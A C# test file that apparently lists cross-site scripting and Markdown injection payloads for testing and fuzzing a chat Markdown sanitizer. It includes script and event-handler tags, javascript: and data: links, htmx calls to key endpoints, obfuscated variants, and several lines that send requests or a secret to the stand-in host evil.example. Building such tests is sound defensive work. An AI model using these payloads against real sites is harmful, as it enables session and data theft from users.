namespace Parley.Tests.Chat.Markdown;

/// <summary>What somebody might write who wants a reader's browser to act. Seeds of the fuzzer, too.</summary>
internal static class Attacks
{
    public static readonly string[] All =
    [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<iframe src=\"javascript:alert(1)\"></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\">", "<object data=\"data:text/html,x\">", "<embed src=x>", "<form action=//evil.example><input name=q></form>",
        "<style>*{background:url(//evil.example)}</style>", "<link rel=stylesheet href=//evil.example>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<div hx-get=\"/api/v1/keys\" hx-trigger=load>", "<a hx-post=/api/v1/keys>", "<div data-hx-get=x>", "<p style=\"position:fixed;inset:0\">", "<button formaction=javascript:alert(1)>x</button>",
        "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<template><script>1</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](java\nscript:alert(1))", "[a](&#106;avascript:alert(1))", "[a](javascript&colon;alert(1))", "[a](&#x01;javascript:alert(1))", "[a](\u0001javascript:alert(1))",
        "[a](<java script:alert(1)>)", "[a](vbscript:msgbox)", "[a](data:text/html;base64,PHNjcmlwdD4=)", "[a](file:///etc/passwd)", "[a](blob:https://x/1)", "[a](//evil.example)", "[a](/api/v1/auth/logout)", "[a](\\\\evil.example)",
        "![a](javascript:alert(1))", "![a](data:image/svg+xml,<svg onload=alert(1)>)", "![a](https://evil.example/p.png?secret=1)", "![a](/api/v1/files/../keys)", "![a](/api/v1/files/x/content)", "![\"onerror=alert(1)](https://e.example/x)",
        "![a](https://e.example/\"onerror=alert(1))", "![a](/logo.png)", "[a][r]\n\n[r]: javascript:alert(1)", "[r]: javascript:alert(1)\n\n[r]", "![r]\n\n[r]: data:text/html,x 'onload=alert(1)'",
        "<javascript:alert(1)>", "<data:text/html,x>", "<https://ok.example/\" onclick=\"alert(1)>", "<x@evil.example?subject=\"onclick=1>", "https://ok.example/\"onmouseover=alert(1)",
        "[a](https://ok.example \"x\\\" onclick=alert(1) y=\\\"\")", "[a](https://ok.example '\"><script>alert(1)</script>')", "text {onclick=alert(1)}", "# head {#id onclick=alert(1)}", "[a](https://ok.example){hx-get=/x}", "```js {onclick=alert(1)}\nx\n```",
        "```\"><script>alert(1)</script>\nx\n```", "```mermaid\ngraph TD; A[\"<img src=x onerror=alert(1)>\"]; click A \"javascript:alert(1)\"\n```", "```html\n</code></pre><script>alert(1)</script>\n```", "~~~ onload=alert(1)\n</div>\n~~~",
        "$\\href{javascript:alert(1)}{x}$", "$$\n\\htmlData{hx-get=/x}{y}</div><script>alert(1)</script>\n$$", "\\[<img src=x onerror=alert(1)>\\]", "`<script>alert(1)</script>`", "| <script> | \" onx=1 |\n|---|---|\n| <img src=x onerror=1> | b |",
        "- [x] <input onfocus=alert(1) autofocus>", "a<br onload=alert(1)>b", "<br/onload=1>", "<BR >", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "<!--><script>alert(1)</script>-->", "<![CDATA[<script>]]>", "<?php ?>", "<a\u00a0onclick=1>",
        "\u202e<script>\u202c", "[\u202egpj.exe](https://ok.example/a.exe)", "![x](https://ok.example/\u202egnp.exe)", "[file<script>.txt](https://ok.example/f\"><svg/onload=1>.txt)", "[a]: https://ok.example/<script>\n[a]", "\0<script>", "<scr\0ipt>alert(1)</scr\0ipt>",
        "a[^1]\n\n[^1]: <script>alert(1)</script>", "[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: x", "[^1](javascript:alert(1))\n\n[^1]: [a](javascript:alert(1))", "[^<img/src=x/onerror=1>]: x\n\n[^<img/src=x/onerror=1>]",
        "<div id=chat>", "<div id=n-1 onclick=1>", "<a href=#chat>", "<a href=#n-1 target=_top>", "<p id=n-1>", "[x](#chat)", "[^1]:\n    ```html\n    </div></div><script>alert(1)</script>\n    ```\n[^1]",
        "</p></div></article><script>alert(1)</script>", "<plaintext>", "<xmp><script>", "<title><script>", "<textarea><script>alert(1)</script>",
    ];
}
